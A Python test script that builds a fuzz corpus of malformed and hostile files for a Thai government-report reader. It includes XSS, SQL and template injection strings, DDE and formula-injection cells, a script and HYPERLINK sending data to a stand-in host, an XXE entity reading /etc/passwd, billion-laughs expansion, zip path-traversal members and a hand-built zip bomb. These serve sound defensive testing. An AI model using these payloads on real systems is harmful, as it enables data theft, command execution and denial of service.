"""Write the fuzz corpus (``tests/fixtures/fuzz/``): broken and hostile files made from the samples.

Each file is something an LAO could really send (a truncated upload, a legacy encoding,
a password-protected PDF, a zip bomb renamed .docx, a cell holding ``=HYPERLINK(...)``)
and ``MANIFEST.json`` says how it was made and what reading it must give:
``unreadable`` (an ``unreadable_file`` finding whose message holds ``reason``),
``readable``, or ``either`` (a mutation whose outcome is not the point: it must end
with a verdict, whatever it is). Big inputs (60 MB text, 300 MB bombs) are made on the
fly by the tests, never committed.

Run ``uv run python tests/fuzz_corpus.py [OUT]`` to regenerate; ``tests/test_fuzz.py``
reads the corpus and checks that this script still describes it.
"""

from __future__ import annotations

import hashlib
import io
import json
import random
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import docx
import openpyxl

FIXTURES = Path(__file__).resolve().parent / "fixtures"
OUT = FIXTURES / "fuzz"
SEEDS = FIXTURES / "seeds"
REAL = FIXTURES / "real"
FIXED_TIME = (2024, 1, 1, 0, 0, 0)  # zip member times, so a rerun gives the same members

HOSTILE_CELLS = [
    "<script>alert('itaflow')</script>",
    '=HYPERLINK("http://evil.example/steal?x="&A1,"คลิกเพื่อดูผล")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|'/C notepad'!A0",
    "@SUM(1+1)",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE submissions; --",
    "{{ 7*7 }} {% for x in y %}",
    '#import "/etc/passwd" #read("/etc/passwd")',
    "\u202eตัวอักษรกลับด้าน\u202c \u200bศูนย์กว้าง\u200b",
    "ខ្មែរ 中文 ລາວ ผสมภาษา",
]


# Live formulas (no cached value): a reader must never show them as text.
FORMULA_LINK = '=HYPERLINK("http://formula.example/steal","ผล")'
FORMULA_DDE = "=cmd|'/C formula'!A0"


@dataclass(frozen=True)
class Item:
    name: str
    data: bytes
    expect: str  # unreadable | readable | either
    how: str
    reason: str = ""  # a word the unreadable_file message must hold


# --- building blocks ----------------------------------------------------------------


def flip_bits(data: bytes, flips: int, seed: int, start: int = 0) -> bytes:
    """``flips`` random single-bit errors after ``start`` (a bad disk, a bad line)."""
    rnd = random.Random(seed)
    out = bytearray(data)
    for _ in range(flips):
        i = rnd.randrange(start, len(out))
        out[i] ^= 1 << rnd.randrange(8)
    return bytes(out)


def member(name: str) -> zipfile.ZipInfo:
    """A deflated zip member with a fixed time, so a rerun gives the same member."""
    info = zipfile.ZipInfo(name, FIXED_TIME)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def repack(data: bytes, extra: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """A zip package rewritten with fixed member times, optionally with more members."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for info in src.infolist():
            if info.filename not in drop:
                body = src.read(info.filename)
                if info.filename == "docProps/core.xml":  # openpyxl stamps the save time
                    body = re.sub(
                        rb"(<dcterms:\w+[^>]*>)[^<]*", rb"\g<1>2024-01-01T00:00:00Z", body
                    )
                zf.writestr(member(info.filename), body)
        for name, body in (extra or {}).items():
            zf.writestr(member(name), body)
    return buf.getvalue()


def report_docx(cells: list[str]) -> bytes:
    """A Word report shaped like a real one, its table holding ``cells``."""
    d = docx.Document()
    d.core_properties.created = d.core_properties.modified = datetime(2024, 1, 1)
    d.add_paragraph("รายงานผลการดำเนินการตามมาตรการส่งเสริมคุณธรรมและความโปร่งใสภายในหน่วยงาน")
    d.add_paragraph("องค์การบริหารส่วนตำบลด่านช้าง อำเภอบัวใหญ่ จังหวัดนครราชสีมา")
    d.add_paragraph("ประจำปีงบประมาณ พ.ศ. 2567 รอบ 6 เดือน")
    head = ["ลำดับ", "มาตรการ", "ขั้นตอนการดำเนินการ", "ผู้รับผิดชอบ", "ระยะเวลา", "ผลการดำเนินการ"]
    table = d.add_table(rows=1, cols=len(head))
    for cell, text in zip(table.rows[0].cells, head, strict=True):
        cell.text = text
    for i, text in enumerate(cells, 1):
        row = table.add_row().cells
        values = [str(i), text, text, "สำนักปลัด", "ต.ค. 66 - มี.ค. 67", text]
        for cell, value in zip(row, values, strict=True):
            cell.text = value
    buf = io.BytesIO()
    d.save(buf)
    return repack(buf.getvalue())


def report_xlsx(cells: list[str], formulas: bool = True) -> bytes:
    """An Excel report whose cells hold ``cells`` as text, and live formulas when asked."""
    wb = openpyxl.Workbook()
    wb.properties.created = wb.properties.modified = datetime(2024, 1, 1)
    ws = wb.active
    ws.append(["รายงานผลการดำเนินการตามมาตรการส่งเสริมคุณธรรมและความโปร่งใส ปีงบประมาณ 2567"])
    ws.append(["ลำดับ", "มาตรการ", "ขั้นตอน", "ผู้รับผิดชอบ", "ระยะเวลา", "ผลการดำเนินการ"])
    for i, text in enumerate(cells, 1):
        ws.append([i, "", "", "กองคลัง", "1 ต.ค. 2566 - 31 มี.ค. 2567", ""])
        for col in (2, 3, 6):
            cell = ws.cell(row=ws.max_row, column=col)
            cell.value = text
            cell.data_type = "s"  # the text itself, even when it starts with "="
    if formulas:
        ws.append([99, FORMULA_LINK, "=1+1", "=A3", "", FORMULA_DDE])
    buf = io.BytesIO()
    wb.save(buf)
    return repack(buf.getvalue())


def traversal_zip(with_document: bytes | None) -> bytes:
    """A zip whose members try to leave wherever it is unpacked."""
    members = {
        "../../etc/passwd": b"root:x:0:0:itaflow-traversal:/root:/bin/sh\n",
        "/tmp/itaflow-absolute-member": b"absolute path member\n",
        "word/../../../escaped.xml": b"<x/>",
        "..\\..\\windows\\system32\\evil.dll": b"MZ",
    }
    if with_document is None:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            for name, body in members.items():
                zf.writestr(member(name), body)
        return buf.getvalue()
    return repack(with_document, extra=members)


def overlapping_bomb(copies: int = 260, member_mb: int = 1) -> bytes:
    """A zip bomb of the "overlapping files" kind: one compressed megabyte of zeros,
    listed ``copies`` times in the central directory, so a small file declares
    hundreds of megabytes (beyond the default 200 MB limit). Named like a docx."""
    payload = bytes(member_mb << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = comp.compress(payload) + comp.flush()
    crc = zlib.crc32(payload)
    name0 = b"word/document.xml"
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(body), len(payload), len(name0), 0
    )
    out = bytearray(local + name0 + body)
    central = bytearray()
    for i in range(copies):
        name = name0 if i == 0 else f"word/media/image{i:04d}.xml".encode()
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(body),
                len(payload),
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, copies, copies, len(central), len(out), 0)
    return bytes(out + central + end)


# --- a password-protected PDF, written by hand ----------------------------------------
# Neither pypdf nor pikepdf is a dependency and pdfplumber cannot write, so this is the
# PDF Standard Security Handler, revision 2 (RC4, 40-bit key), from ISO 32000-1 §7.6.3.

_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


def _padded(password: str) -> bytes:
    return (password.encode("latin-1") + _PAD)[:32]


def encrypted_pdf(user_password: str, owner_password: str = "owner-secret") -> bytes:
    """A one-page PDF encrypted with RC4-40. An empty user password opens without asking
    (like many government PDFs locked only against editing); any other asks for it."""
    file_id = hashlib.md5(b"itaflow-fuzz-corpus").digest()
    permissions = -44  # print and copy not allowed
    owner = _rc4(hashlib.md5(_padded(owner_password)).digest()[:5], _padded(user_password))
    key = hashlib.md5(
        _padded(user_password) + owner + struct.pack("<i", permissions) + file_id
    ).digest()[:5]
    user = _rc4(key, _PAD)
    lines = [
        "Report on integrity and transparency measures, fiscal year 2567",
        "Measure 1: publish procurement plans. Result: done.",
        "Measure 2: open a complaints channel. Result: done.",
    ]
    text = "".join(
        f"BT /F1 12 Tf 72 {760 - 20 * i} Td ({line}) Tj ET\n" for i, line in enumerate(lines)
    )
    object_key = hashlib.md5(key + (5).to_bytes(3, "little") + (0).to_bytes(2, "little")).digest()[
        :10
    ]
    stream = _rc4(object_key, text.encode("latin-1"))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
        b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>"
        % (owner.hex().encode(), user.hex().encode(), permissions),
    ]
    ids = b"<%s> <%s>" % (file_id.hex().encode(), file_id.hex().encode())
    return assemble_pdf(
        objects,
        header=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n",
        trailer=b"/Encrypt 6 0 R /ID [" + ids + b"]",
    )


def assemble_pdf(
    objects: list[bytes], *, header: bytes = b"%PDF-1.4\n", trailer: bytes = b""
) -> bytes:
    """A PDF file of numbered ``objects`` (object 1 is the catalog) with a correct xref
    table; ``trailer`` adds entries to the trailer dictionary."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    extra = b" " + trailer if trailer else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\n" % (len(objects) + 1, extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


# --- the corpus ---------------------------------------------------------------------


def _seed(name: str) -> bytes:
    return (SEEDS / name).read_bytes()


def _real(n: int) -> bytes:
    return next(REAL.glob(f"real_{n:02d}_*.pdf")).read_bytes()


def _text_items() -> list[Item]:
    danchang = _seed("danchang_sao_nakhonratchasima_2566_h1.txt")
    nonghuarat = _seed("nonghuarat_tm_nakhonratchasima_2568.txt")
    tapraya = _seed("tapraya_sao_sakaeo_2568_annual.txt")
    tapraya_text = tapraya.decode("utf-8")
    odd = next(
        i for i in range(len(nonghuarat) // 2, len(nonghuarat)) if nonghuarat[i] & 0xC0 == 0x80
    )
    html = (
        "<html><head><meta http-equiv='refresh' content='0;url=http://evil.example'>"
        "<script>fetch('http://evil.example/'+document.cookie)</script>"
        "<link rel=stylesheet href='http://evil.example/x.css'></head><body>"
        "<h1>รายงานผลการดำเนินการตามมาตรการส่งเสริมคุณธรรมและความโปร่งใส</h1>"
        "<iframe src='file:///etc/passwd'></iframe><img src='http://evil.example/p.png' onerror='alert(1)'>"
        "<table><tr><th>มาตรการ</th><th>ขั้นตอน</th><th>ผู้รับผิดชอบ</th><th>ระยะเวลา</th><th>ผลการดำเนินการ</th></tr>"
        + "".join(
            f"<tr><td>{c}</td><td>{c}</td><td>กองช่าง</td><td>ต.ค. 66</td><td>{c}</td></tr>"
            for c in [
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                '=HYPERLINK("http://evil.example")',
                "<b onclick=x()>ตัวหนา</b>",
            ]
        )
        + "</table></body></html>"
    )
    return [
        Item("empty.txt", b"", "unreadable", "zero bytes", "empty"),
        Item("blank.docx", b" \r\n\t\n  ", "unreadable", "whitespace named .docx", "empty"),
        Item(
            "bom_only.txt", b"\xff\xfe", "unreadable", "a UTF-16 byte-order mark and nothing else"
        ),
        Item(
            "random.pdf", random.Random(1).randbytes(4096), "unreadable", "random bytes named .pdf"
        ),
        Item("nul_bytes.txt", bytes(2048), "unreadable", "NUL bytes"),
        Item(
            "truncated_37pct.txt",
            danchang[: len(danchang) * 37 // 100],
            "either",
            "seed cut at 37%",
        ),
        Item(
            "cut_mid_character.txt",
            nonghuarat[:odd],
            "readable",
            "seed cut inside a UTF-8 Thai letter",
        ),
        Item(
            "bitflip_40.txt", flip_bits(danchang, 40, seed=2), "either", "seed with 40 bit errors"
        ),
        Item(
            "cp874.txt",
            tapraya_text.encode("cp874", errors="replace"),
            "readable",
            "seed in TIS-620/cp874",
        ),
        Item(
            "utf16_no_bom.txt",
            tapraya_text.encode("utf-16-le"),
            "readable",
            "seed in UTF-16LE without BOM",
        ),
        Item(
            "controls.txt",
            tapraya_text.replace("\t", "\t\x1b[31m\x07", 5).replace("\n", "\r\x0b\n", 5).encode(),
            "either",
            "seed with ANSI escapes, bells and vertical tabs",
        ),
        Item(
            "mixed_scripts.txt",
            ("\n".join(f"{i}\t{HOSTILE_CELLS[-1]}\tក្រុម\t部门\tຫ້ອງການ" for i in range(30))).encode(),
            "readable",
            "Thai, Khmer, CJK and Lao text in a table",
        ),
        Item(
            "hostile_page.html",
            html.encode(),
            "readable",
            "HTML with scripts, refresh, iframe and remote images",
        ),
        Item(
            "deep_tables.html",
            ("<table><tr><td>" * 400 + "ลึก" + "</td></tr></table>" * 400).encode(),
            "either",
            "400 nested tables",
        ),
        Item(
            "wide_row.txt",
            ("\t".join(f"ช่อง{i}" for i in range(3000)) + "\n").encode() * 2,
            "either",
            "two rows of 3,000 cells",
        ),
    ]


def _pdf_items() -> list[Item]:
    real2, real4, real5 = _real(2), _real(4), _real(5)
    no_trailer = real5[: real5.rfind(b"xref")] if b"xref" in real5 else real5[:-200]
    return [
        Item("truncated_half.pdf", real2[: len(real2) // 2], "either", "real PDF cut in half"),
        Item(
            "bitflip_12.pdf",
            flip_bits(real4, 12, seed=4, start=2000),
            "either",
            "real PDF with 12 bit errors",
        ),
        Item("no_xref.pdf", no_trailer, "either", "real PDF without its cross-reference table"),
        Item(
            "header_only.pdf",
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
            "unreadable",
            "a PDF header and nothing else",
        ),
        Item(
            "encrypted_user_password.pdf",
            encrypted_pdf("lao-secret"),
            "unreadable",
            "RC4 PDF with a user password",
            "encrypted",
        ),
        Item(
            "encrypted_owner_only.pdf",
            encrypted_pdf(""),
            "readable",
            "RC4 PDF locked only against editing",
        ),
    ]


def _office_items() -> list[Item]:
    doc = report_docx(HOSTILE_CELLS)
    xlsx = report_xlsx(HOSTILE_CELLS)
    entity = (
        '<!DOCTYPE w:document [<!ENTITY a "'
        + "ก" * 10
        + '">'
        + "".join(
            f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
            for p, c in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    )

    def with_entities(document_xml: bytes, ref: str) -> bytes:
        text = document_xml.decode("utf-8")
        head_end = text.index("?>") + 2 if text.startswith("<?xml") else 0
        text = text[:head_end] + entity + text[head_end:]
        return text.replace("ด่านช้าง", ref, 1).encode("utf-8")

    document_xml = zipfile.ZipFile(io.BytesIO(doc)).read("word/document.xml")
    return [
        Item("hostile_cells.docx", doc, "readable", "Word table with script, formula and DDE text"),
        Item(
            "hostile_cells.xlsx", xlsx, "readable", "Excel with formula text, live formulas and DDE"
        ),
        Item("truncated.docx", doc[: len(doc) * 6 // 10], "unreadable", "Word file cut at 60%"),
        Item(
            "bitflip.xlsx",
            flip_bits(xlsx, 6, seed=6, start=100),
            "either",
            "Excel file with 6 bit errors",
        ),
        Item(
            "billion_laughs.docx",
            repack(
                doc,
                {"word/document.xml": with_entities(document_xml, "&i;")},
                drop=("word/document.xml",),
            ),
            "unreadable",
            "Word XML with entity expansion (10^9 letters)",
        ),
        Item(
            "xxe.docx",
            repack(
                doc,
                {"word/document.xml": with_entities(document_xml, "&xxe;")},
                drop=("word/document.xml",),
            ),
            "either",
            "Word XML with an external entity pointing at /etc/passwd",
        ),
        Item(
            "traversal_only.docx",
            traversal_zip(None),
            "unreadable",
            "zip with ../ and absolute member names only",
        ),
        Item(
            "traversal_in_docx.docx",
            traversal_zip(doc),
            "either",
            "a real docx plus ../ and absolute members",
        ),
        Item(
            "overlap_bomb.docx",
            overlapping_bomb(),
            "unreadable",
            "overlapping-entries zip bomb (260 MB declared)",
            "zip bomb",
        ),
        Item(
            "legacy.doc",
            bytes.fromhex("D0CF11E0A1B11AE1")
            + bytes(504)
            + "WordDocument".encode("utf-16-le")
            + bytes(1000),
            "unreadable",
            "OLE2 header with a WordDocument stream name",
            ".doc",
        ),
        Item(
            "image.pdf",
            b"\x89PNG\r\n\x1a\n" + random.Random(7).randbytes(1000),
            "unreadable",
            "a PNG named .pdf",
        ),
    ]


BUILDERS: tuple[Callable[[], list[Item]], ...] = (_text_items, _pdf_items, _office_items)


def build() -> list[Item]:
    """Every corpus item, in manifest order (names are unique)."""
    items = [item for builder in BUILDERS for item in builder()]
    assert len({i.name for i in items}) == len(items)
    return items


def manifest(items: list[Item]) -> list[dict[str, str]]:
    return [
        {
            "file": i.name,
            "expect": i.expect,
            "reason": i.reason,
            "how": i.how,
            "bytes": str(len(i.data)),
        }
        for i in items
    ]


def write(out: Path = OUT) -> list[Item]:
    """Replace the corpus in ``out`` with a freshly built one."""
    items = build()
    out.mkdir(parents=True, exist_ok=True)
    for old in out.iterdir():
        old.unlink()
    for item in items:
        (out / item.name).write_bytes(item.data)
    (out / "MANIFEST.json").write_text(
        json.dumps(manifest(items), ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
    )
    return items


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else OUT
    written = write(target)
    print(f"{len(written)} files, {sum(len(i.data) for i in written):,} bytes in {target}")
